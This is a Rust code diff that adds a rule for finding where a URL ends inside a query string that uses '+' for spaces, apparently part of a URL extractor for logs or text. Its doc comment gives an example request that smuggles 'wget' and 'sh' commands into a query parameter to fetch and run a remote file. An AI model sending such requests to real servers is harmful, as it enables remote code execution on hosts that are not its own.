@@ -162,11 +162,12 @@ fn field_of_record(before: &[u8], scheme: &str, body: &[u8]) -> Option<usize> {
 }
 
 /// What a mark directly before a URL says about its end. The first answer counts.
-const BY_MARK: [fn(&Extent<'_>, usize) -> Option<usize>; 9] = [
+const BY_MARK: [fn(&Extent<'_>, usize) -> Option<usize>; 10] = [
     encoded_string,
     at_rule,
     |extent, end| substitution::part_end(extent.text(), extent.outer(), extent.start(), end),
     at_field,
+    at_blank_of_query,
     literal_text,
     titled_image,
     quoted_by_dollars,
@@ -208,6 +209,21 @@ fn at_field(extent: &Extent<'_>, end: usize) -> Option<usize> {
         .or_else(|| field_of_query(before, body))
         .or_else(|| field_of_record(before, scheme, body))?;
     Some(extent.body + end)
+}
+
+/// Where a URL ends in a query whose blanks are `+`, if the query is none of a URL that was found: `GET /x?cmd=wget+http://a.com/y;sh+y`.
+fn at_blank_of_query(extent: &Extent<'_>, end: usize) -> Option<usize> {
+    const MAX: usize = 256;
+    let before = extent.before().strip_suffix(b"+")?;
+    let near = &before[before.len().saturating_sub(MAX)..];
+    let word = &near[near.len() - run_back(near, |b| !Class::STOP.has(b))..];
+    let body = extent
+        .text()
+        .get(extent.body..end)
+        .filter(|_| word.contains(&b'?'))?;
+    let query = memchr::memchr(b'?', body).unwrap_or(body.len());
+    let mut ends = memchr::memchr3_iter(b';', b'+', b'&', body);
+    Some(extent.body + ends.find(|&at| body[at] != b'&' || at < query)?)
 }
 
 /// A string of PostgreSQL: `$$http://a.com/$$`.
